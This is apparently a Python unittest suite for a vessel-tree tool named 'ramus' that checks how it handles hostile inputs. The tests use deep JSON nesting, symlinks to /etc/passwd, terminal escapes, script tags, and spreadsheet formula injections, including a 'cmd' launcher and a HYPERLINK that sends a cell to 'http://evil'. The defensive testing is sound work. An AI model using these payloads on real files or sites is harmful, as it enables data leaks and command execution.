"""Files, names and numbers that were made to do harm: each is taken for what it is, or refused with a word."""

import csv
import json
import os
import pathlib
import re
import resource
import socket
import subprocess
import tarfile
import time
import unittest

from ramus import GOOD, RAMUS, SANITIZER_MEMORY, CommandLineTest

SHARED = pathlib.Path(os.environ.get("RAMUS_SHARED_DATA", "")) / "hostile"
SIZE = ("--size", "160x120")
ESCAPE = "\x1b[2J\x1b]0;pwned\x07"


def tree_json(**members):
    return json.dumps({"format": "ramus-tree", "version": 1, "units": "mm", "orientation": "RAS",
                       "points": [[0, 0, 0, 1], [0, 0, 5, 1]], "branches": [[0, 1]], "roots": [0]} | members)


class Hostile(CommandLineTest):
    def setUp(self):
        super().setUp()
        self.write("tree.swc", GOOD)

    def bounded(self, *arguments, megabytes, **options):
        """Runs within so much address space beside what an idle process has."""

        def limit():
            most = (megabytes << 20) + (2 << 30) + 16 * SANITIZER_MEMORY
            if not SANITIZER_MEMORY:
                resource.setrlimit(resource.RLIMIT_AS, (most, most))

        return subprocess.run([RAMUS, *map(str, arguments)], cwd=self.folder, stdout=subprocess.PIPE,
                              stderr=subprocess.PIPE, text=True, timeout=120, preexec_fn=limit, **options)


class Json(Hostile):
    def test_nesting_is_refused_wherever_json_is_read(self):
        deep = "[" * 300_000 + "]" * 300_000
        self.write("deep.ramus.json", '{"version": 1, "tree": {"path": "tree.swc"}, "comparison": {"labels": %s}}' % deep)
        self.write("deep.json", tree_json().replace('"roots"', '"more": %s, "roots"' % deep))
        self.write("camera.json", '{"position": %s}' % deep)
        for command in (["render", "--session", "deep.ramus.json", "-o", "a.png", *SIZE],
                        ["mesh", "tree.swc", "--session", "deep.ramus.json", "-o", "a.stl"], ["info", "deep.json"],
                        ["convert", "deep.json", "-o", "a.swc"]):
            with self.subTest(command):
                self.expect_failure(*command, says=["deeper than 64 levels"])
        self.expect_failure("render", "tree.swc", "--camera", "camera.json", "-o", "a.png", *SIZE, says=["camera.json"])
        self.assertNotIn("a.png", self.names())

    def test_sessions_have_limits(self):
        for count, status in ((10_001, 1), (10_000, 0)):
            for name, value in (("cuts", [[0, i / count] for i in range(count)]),
                                ("lesions", [[i % 100, i // 100, 50, 0.5] for i in range(count)]),
                                ("measurements", [{"kind": "path", "branches": [1, 2]}] * count)):
                with self.subTest(name, count=count):
                    self.write("s.ramus.json", json.dumps({"version": 1, "tree": {"path": "tree.swc"}, name: value}))
                    result = self.bounded("render", "--session", "s.ramus.json", "-o", "a.png", *SIZE, megabytes=1000)
                    self.assertEqual(result.returncode, status, result.stderr)
                    self.assertEqual("10,001 " + name in result.stderr, status == 1, result.stderr)
        for name, most, value in (("edits", 1000, {"edit": "scale", "branches": [1], "value": 1.0001}),
                                  ("context shapes", 500, {"path": "tet.stl"}), ("lesion meshes", 500, "tet.stl")):
            for count in (9000, most + 1):
                with self.subTest(name, count=count):
                    member = name.split(" shapes")[0].replace(" ", "_")
                    self.write("s.ramus.json", json.dumps({"version": 1, "tree": {"path": "tree.swc"}, member: [value] * count}))
                    self.expect_failure("render", "--session", "s.ramus.json", "-o", "a.png", *SIZE,
                                        says=[f"{count:,} {name}, where there can be {most:,}"])
        self.write("s.ramus.json", json.dumps({"version": 1, "tree": {"path": "tree.swc"},
                                               "options": {"bands": [0.01 * (i + 1) for i in range(21)]}}))
        self.expect_failure("render", "--session", "s.ramus.json", "-o", "a.png", *SIZE, says=["more than 20 bands"])
        self.write("s.ramus.json", json.dumps({"version": 1, "tree": {"path": "tree.swc"}, "edits": [
            {"edit": "scale", "branches": [1], "value": 1.0001}] * 1000}))
        begun = time.monotonic()
        self.expect_done("convert", "tree.swc", "--session", "s.ramus.json", "-o", "a.swc")
        self.assertLess(time.monotonic() - begun, 10 if not SANITIZER_MEMORY else 60)
        self.write("c.txt", "cut 1 0.5\n")
        self.write("s.ramus.json", json.dumps({"version": 1, "tree": {"path": "tree.swc"},
                                               "cuts": [[0, i / 10_000] for i in range(10_000)]}))
        self.write("c.txt", "cut 1 0.5\n")
        self.expect_failure("render", "--session", "s.ramus.json", "--commands", "c.txt", *SIZE, says=["10,001 cuts"])


class NamedFiles(Hostile):
    def test_a_session_names_only_regular_files(self):
        os.mkfifo(self.folder / "ff")
        (self.folder / "link.swc").symlink_to("ff")
        for name in ("ff", "link.swc", "/dev/zero"):
            for members in ({"tree": {"path": name}}, {"context": [{"path": name}]}, {"lesion_meshes": [name]},
                            {"comparison": {"mask": name}}, {"deviation": {"mesh": name}}):
                with self.subTest(name, members=members):
                    self.write("s.ramus.json", json.dumps({"version": 1, "tree": {"path": "tree.swc"}} | members))
                    result = subprocess.run([RAMUS, "render", "--session", "s.ramus.json", "-o", "a.png", *SIZE], text=True,
                                            cwd=self.folder, capture_output=True, timeout=10, check=False)
                    self.assertEqual(result.returncode, 1, result.stderr)
                    self.assertIn("no regular file", result.stderr)

    def test_values_of_a_header_must_be_next_to_it_behind_links_too(self):
        (self.folder / "in").mkdir()
        (self.folder / "in/deep").mkdir()
        values = bytes(60 * 60)
        self.write("outside.raw", values)
        self.write("in/inside.raw", values)
        for name, target, good in (("a.raw", "../outside.raw", False), ("b.raw", "inside.raw", True),
                                   ("c.raw", "/etc/passwd", False), ("deep/d.raw", "../inside.raw", True),
                                   ("e.raw", "a.raw", False), ("f.raw", str(self.folder / "in/inside.raw"), True)):
            (self.folder / "in" / name).symlink_to(target)
            for file, header in (("v.nhdr", "NRRD0004\ntype: uchar\ndimension: 3\nsizes: 60 60 1\nencoding: raw\ndata file: %s\n"),
                                 ("l.nhdr", "NRRD0004\ntype: uchar\ndimension: 3\nsizes: 60 60 1\nencoding: raw\ndata file: LIST\n%s\n"),
                                 ("v.mhd", "ObjectType = Image\nNDims = 3\nDimSize = 60 60 1\nElementType = MET_UCHAR\n"
                                           "ElementDataFile = %s\n")):
                with self.subTest(name, file=file):
                    self.write("in/" + file, header % name)
                    result = self.run_ramus("info", "in/" + file)
                    self.assertEqual("outside of the header's folder" in result.stderr, not good, result.stderr)
                    self.assertEqual(result.returncode, 0 if good else 1, result.stderr)
        found = SHARED / "nhdr_symlink_values.tar"
        if found.exists():
            with tarfile.open(found) as files:
                files.extractall(self.folder / "found")
            self.expect_failure("info", next((self.folder / "found").rglob("*.nhdr")), says=["outside of the header's folder"])
        (self.folder / "way").symlink_to("in")  # the folder may be a link itself
        self.write("in/v.nhdr", "NRRD0004\ntype: uchar\ndimension: 3\nsizes: 60 60 1\nencoding: raw\ndata file: inside.raw\n")
        self.expect_done("info", "way/v.nhdr")


class Terminal(Hostile):
    def expect_plain(self, *arguments):
        result = self.run_ramus(*arguments)
        for text in (result.stdout, result.stderr):
            self.assertEqual([c for c in text if (c < " " and c != "\n") or c == "\x7f"], [], text)
        return result

    def test_text_of_files_and_names_does_not_control_the_terminal(self):
        self.write("esc.json", tree_json(source=ESCAPE, repairs=["ok\nramus: fine " + ESCAPE]))
        self.write("esc.ramus.json", json.dumps({"version": 1, "tree": {"path": "tree.swc"}, ESCAPE: 1}))
        self.write("names.json", tree_json(systems=[{"name": ESCAPE, "colour": "#102030"}], branch_systems=[0]))
        self.write(ESCAPE + ".swc", "rubbish")
        shown = self.expect_plain("info", "esc.json")
        self.assertIn("\\u001b[2J", shown.stdout)
        self.assertNotIn("\nramus: fine", shown.stdout)
        self.expect_plain("mesh", "esc.json", "-o", "a.stl")
        self.expect_plain("info", "names.json")
        self.assertIn("\\u001b", self.expect_plain("render", "--session", "esc.ramus.json", "-o", "a.png", *SIZE).stderr)
        self.assertIn("\\u001b", self.expect_plain("info", ESCAPE + ".swc").stderr)
        self.expect_plain("info", "tree.swc\nramus: fine")
        self.expect_plain("mesh", "tree.swc", "--method", ESCAPE, "-o", "a.stl")
        self.expect_plain(ESCAPE)

    def test_json_stays_json(self):
        self.write("esc.json", tree_json(source="\x7f\u009b2J", repairs=["\x1b\u009b\x7f"]))
        told = self.json("info", "esc.json", "--json")
        self.assertEqual(told["notes"][0]["text"], "\x1b\u009b\x7f")

    def test_tables_have_no_formulas(self):
        names = ["=1+2", "+cmd|' /C calc'!A0", "@SUM(A1)", "-2+3", "-3.5", "+", "plain, \"quoted\""]
        commands = "".join('name %d "%s"\n' % (i % 3, name.replace('"', '\\"')) + "select 0 1 2\nreport %d.csv selection\n" % i
                           for i, name in enumerate(names))
        self.write("c.txt", commands)
        self.expect_done("render", "tree.swc", "--commands", "c.txt", *SIZE)
        for i, name in enumerate(names):
            text = (self.folder / f"{i}.csv").read_text()
            self.assertIn({0: "\"'=1+2\"", 3: "\"'-2+3\"", 4: ",-3.5,", 5: ",+,"}.get(i, name[1:8]), text)
            for cell in (cell for row in text.splitlines() for cell in row.split(",")):
                if cell[:1] in "=+-@" and len(cell) > 1:
                    float(cell)


    def test_pairs_of_tables_have_no_formulas(self):
        names = ["=HYPERLINK(\"http://evil/?\"&A1)", 'a\nb";x', "+1+2", "@SUM(A1)", "-2+3", "\t=1", "plain", "-3.5", "x;=1", "'q"]
        points = [[10 * i, 0, 50 * i, 1] for i in range(2 * len(names))]
        self.write("t.json", tree_json(
            version=2, points=points, branches=[[2 * i, 2 * i + 1] for i in range(len(names))], roots=[2 * i for i in range(len(names))],
            systems=[{"name": name, "colour": [1, 2, i]} for i, name in enumerate(names)], branch_systems=list(range(len(names))),
            point_data={"=1+1": [1] * len(points)}, branch_data={"@cmd": [1] * len(names)}))
        self.expect_done("convert", "t.json", "-o", "t.csv")
        for file in ("t.csv", "t_edges.csv"):
            with open(self.folder / file, newline="", encoding="utf-8") as table:
                for row in csv.reader(table, delimiter=";"):
                    for cell in row:
                        if cell[:1] in ("=", "+", "-", "@", "\t") and len(cell) > 1:
                            float(cell)  # else a spreadsheet would work it out
        if (SHARED / "csv_formula_system.json").exists():
            self.expect_done("convert", SHARED / "csv_formula_system.json", "-o", "found.csv")
            self.assertNotIn(";=", (self.folder / "found.csv").read_text())
        before, after = self.json("info", "t.json", "--json"), self.json("info", "t.csv", "--json")
        self.assertEqual(list(before["systems"]), list(after["systems"]))
        self.expect_done("convert", "t.csv", "-o", "back.json")
        self.assertIn("=1+1", json.loads((self.folder / "back.json").read_text())["point_data"])

    def test_pages_run_and_load_nothing(self):
        name = "<script>alert(1)</script><img src=http://evil/x>"
        self.write("t.json", tree_json(version=2, systems=[{"name": name, "colour": [1, 2, 3]}], branch_systems=[0]))
        self.write("c.txt", "report page.html\nreport case.html --case \"%s\"\n" % name)
        self.expect_done("render", "t.json", "--commands", "c.txt", *SIZE)
        self.expect_done("validate", "t.json", "--report", "v")
        self.expect_done("study", "tree.swc", "-o", "s", "--size", "64x48")
        self.expect_done("paper", "--tree", "t.json", "-o", "p", "--figures", "8,I")
        pages = [path for path in self.folder.rglob("*.html")]
        self.assertEqual(len(pages), 5)
        for page in pages:
            with self.subTest(page.name):
                text = page.read_text()
                policy = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">', text)
                self.assertIsNotNone(policy)
                self.assertLess(policy.start(), text.index("<style"))
                parts = dict(part.strip().split(" ", 1) for part in policy[1].split(";"))
                self.assertEqual((parts["default-src"], parts["img-src"], parts["base-uri"], parts["form-action"]),
                                 ("'none'", "data:", "'none'", "'none'"))
                self.assertEqual("script-src" in parts, page.name.startswith("rater"))
                self.assertNotIn("<script>alert", text)


class Commands(Hostile):
    """A commands file may come from somebody else."""

    LINES = ("report victim.html", "report victim.csv", "shot victim.png", "save victim.ramus.json", "export tree victim.swc",
             "export tree pair.csv", "export surface victim.stl", "export turntable turn.png --pictures 3 --size 64x48",
             "report lnk.html", "shot hard.png", "export table victim.csv")
    FILES = ("victim.html", "victim.csv", "victim.png", "victim.ramus.json", "victim.swc", "victim.stl", "pair_edges.csv",
             "turn_002.png", "hard.png", "behind.html")

    def test_commands_do_not_replace_existing_files(self):
        for name in self.FILES:
            self.write(name, "mine")
        (self.folder / "lnk.html").symlink_to("behind.html")
        before = self.names()
        for line in self.LINES:
            with self.subTest(line):
                self.write("c.txt", "select 0\n" + line + "\n")
                self.expect_failure("render", "tree.swc", "--commands", "c.txt", *SIZE, says=["c.txt:2", "--overwrite"])
                (self.folder / "c.txt").unlink()
                self.assertEqual(self.names(), before)
                for name in self.FILES:
                    self.assertEqual((self.folder / name).read_text(), "mine")
        self.write("c.txt", "select 0\n" + "\n".join(self.LINES) + "\n")
        self.expect_done("render", "tree.swc", "--commands", "c.txt", "--overwrite", *SIZE)
        for name in self.FILES:
            self.assertNotEqual((self.folder / name).read_bytes(), b"mine", name)

    def test_commands_replace_their_own_files(self):
        self.write("c.txt", "select 0\nreport new.csv\nshot new.png\nselect 1\nreport new.csv\nshot new.png\nsave s.ramus.json\n"
                            "save s.ramus.json\nexport tree pair.csv\nexport tree pair.csv\n")
        self.expect_done("render", "tree.swc", "--commands", "c.txt", *SIZE)
        self.write("out.png", "mine")  # what the command line names is the person's own wish
        self.write("c.txt", "select 0\n")
        self.expect_done("render", "tree.swc", "--commands", "c.txt", "-o", "out.png", *SIZE)
        self.assertNotEqual((self.folder / "out.png").read_bytes(), b"mine")

    def test_the_reported_commands_file(self):
        found = SHARED / "commands_overwrite.txt"
        if not found.exists():
            self.skipTest("SKIPPED: no shared/data")
        names = ("victim.html", "victim.csv", "victim.png", "victim.ramus.json", "victim.swc")
        for name in names:
            self.write(name, "mine")
        self.expect_failure("render", "tree.swc", "--commands", found, *SIZE, says=["victim.html", "--overwrite"])
        for name in names:
            self.assertEqual((self.folder / name).read_text(), "mine")

    def test_overwrite_needs_commands(self):
        self.expect_failure("render", "tree.swc", "-o", "a.png", "--overwrite", status=2, says=["--commands"])


class Numbers(Hostile):
    def test_invalid_numbers_are_wrong_usage(self):
        for option, value in (("--memory", "-1"), ("--memory", "18446744073709551616"), ("--memory", "1e9"),
                              ("--memory", ""), ("--memory", "5X"), ("--memory", "99999999999T"), ("--width", "nan"),
                              ("--islands", "nan"), ("--bulge-size", "inf"), ("--root", "0,nan,0")):
            with self.subTest(option, value=value):
                self.expect_failure("mesh", "tree.swc", "-o", "a.stl", option + "=" + value, status=2, says=[option])
        for command in (["study", "tree.swc", "-o", "s", "--voxel=nan"], ["study", "tree.swc", "-o", "s", "--voxel=inf"],
                        ["render", "tree.swc", "-o", "a.png", "--reference", "b.png", "--tolerance=nan"],
                        ["render", "tree.swc", "-o", "a.png", "--graphics-memory=-1"], ["--ui-scale=nan"]):
            with self.subTest(command):
                self.expect_failure(*command, status=2, says=[command[-1].split("=")[0]])

    def test_sizes_of_memory_accept_all_units(self):
        for size in ("800M", "4G", "4gb", "4GiB", "2000000000", "0"):
            with self.subTest(size):
                self.expect_done("mesh", "tree.swc", "-o", "a.stl", "--memory", size)

    def test_forecasts_are_numbers_and_name_the_file(self):
        for cell in ("1e-12", "1e-30"):
            refused = self.expect_failure("mesh", "tree.swc", "-o", "a.stl", "--cell", cell, says=["tree.swc: "])
            self.assertNotRegex(refused.stderr.split("tree.swc: ")[-1], r"-\d{6}")  # a folder may be named so
        memory = f"{60 + (SANITIZER_MEMORY >> 20)}M"
        for command in (["mesh", "tree.swc", "-o", "a.stl"], ["render", "tree.swc", "-o", "a.png", *SIZE],
                        ["study", "tree.swc", "-o", "s", *SIZE], ["validate", "tree.swc"]):
            with self.subTest(command):
                self.expect_failure(*command, "--detail", "512", "--memory", memory,
                                    says=["tree.swc", "million triangles"])

    def test_an_unknown_command_after_options_is_named(self):
        self.expect_failure("--detail", "8", "mehs", "tree.swc", "-o", "a.stl", status=2, says=["mehs"])
        self.expect_failure("mehs", "tree.swc", "-o", "a.stl", status=2, says=["mehs", "mesh"])

    def test_names_that_are_not_utf8_do_not_break_json(self):
        os.rename(self.folder / "tree.swc", os.fsencode(self.folder) + b"/\xff.swc")
        result = subprocess.run([RAMUS, "render", b"\xff.swc", "-o", b"\xfe.png", "--json", *SIZE], cwd=self.folder,
                                stdout=subprocess.PIPE, stderr=subprocess.PIPE, timeout=120, check=True)
        self.assertEqual(json.loads(result.stdout)["picture"], "\ufffd.png")


class Bounds(Hostile):
    def test_devices_and_endless_pipes_are_refused_soon(self):
        for name in ("/dev/zero", "/dev/null"):
            for command in (["info", name], ["mesh", name, "-o", "a.stl"], ["compare", name, "tree.swc"],
                            ["render", "tree.swc", "-o", "a.png", "--camera", name, *SIZE],
                            ["render", "tree.swc", "-o", "a.png", "--commands", name, *SIZE],
                            ["mesh", "tree.swc", "--session", name, "-o", "a.stl"]):
                with self.subTest(command):
                    self.expect_failure(*command, says=[name])
        with open("/dev/zero", "rb") as zeros:
            endless = subprocess.Popen(["cat"], stdin=zeros, stdout=subprocess.PIPE)
            try:
                result = self.bounded("info", "/dev/stdin", megabytes=1200, stdin=endless.stdout)
            finally:
                endless.kill()
                endless.stdout.close()
                endless.wait()
        self.assertEqual(result.returncode, 1, result.stderr)
        self.assertIn("standard input: its format is not recognised from its first bytes", result.stderr)

    def test_memory_stays_limited_if_cells_are_larger_than_vessels(self):
        self.write("thin.swc", "0 2 0 0 0 1.5e-5 -1\n1 2 907 -408 0 1.5e-5 0\n2 2 0 1 0 1.5e-5 0\n")
        result = self.bounded("mesh", "thin.swc", "--cell", "0.0025", "--memory", "500M", "-o", "a.stl", "--json",
                              megabytes=700)
        self.assertEqual(result.returncode, 0, result.stderr)  # what grid points meet of it
        self.assertLess(json.loads(result.stdout)["triangles"], 100_000)

    def test_the_forecast_includes_a_vessel_that_turns_back(self):
        self.write("loop.json", tree_json(points=[[0, 0, 0, 400], [600, 0, 0, 400], [300, 0, 0, 400]],
                                          branches=[[2, 1], [0, 1], [0, 2]], roots=[2]))
        for name in ("loop.json",):
            result = self.bounded("mesh", name, "--cell", "0.005", "--memory", "500M", "-o", "a.stl", megabytes=700)
            self.assertEqual(result.returncode, 1, result.stderr)
            self.assertIn("million triangles", result.stderr)


class Empty(Hostile):
    def test_an_empty_surface_is_a_failure(self):
        self.write("short.swc", "1 2 0 0 0 5 -1\n2 2 0 0 0.1 5 1\n")
        for name, cell in (("short.swc", ()), ("short.swc", ("--cell", "1e9"))):
            for command, output in (("mesh", "a.stl"), ("mesh", "a.glb"), ("render", "a.png")):
                with self.subTest(name, command=command):
                    size = SIZE if command == "render" else ()
                    self.expect_failure(command, name, "-o", output, *cell, *size, says=[name, "the surface is empty"])
                    self.assertNotIn(output, self.names())

    def test_a_lost_piece_is_reported(self):
        self.write("two.swc", GOOD + "6 2 50 0 0 5 -1\n7 2 50 0 0.1 5 6\n")
        result = self.expect_done("mesh", "two.swc", "-o", "a.stl")
        self.assertIn("1 piece of the tree is not on the surface (branch 3)", result.stderr)
        self.assertEqual(json.loads(self.expect_done("mesh", "two.swc", "-o", "a.stl", "--json").stdout)["lost_pieces"], [[3]])
        self.assertNotIn("lost_pieces", self.json("mesh", "tree.swc", "-o", "a.stl", "--json"))

    def test_trees_beyond_single_precision_are_refused(self):
        self.write("far.swc", "0 2 0 -9.9e6 0 1e-8 -1\n1 2 3e-7 -9.9e6 0 1e-8 0\n")
        self.write("line.swc", "".join(f"{i} 2 {-9.9e6 + 0.03 * i} 0 0 3.2e-5 {i - 1}\n" for i in range(30)))
        for command in (["mesh", "far.swc", "--detail", "64"], ["mesh", "far.swc", "--detail", "64", "--width", "50"],
                        ["mesh", "line.swc"], ["mesh", "line.swc", "--cell", "0.001"]):
            with self.subTest(command):
                result = self.run_ramus(*command, "-o", "a.stl")
                self.assertEqual(result.returncode, 1, result.stderr)
                self.assertIn("cannot be told apart 9.9e+06 mm from the origin", result.stderr)


if __name__ == "__main__":
    unittest.main()
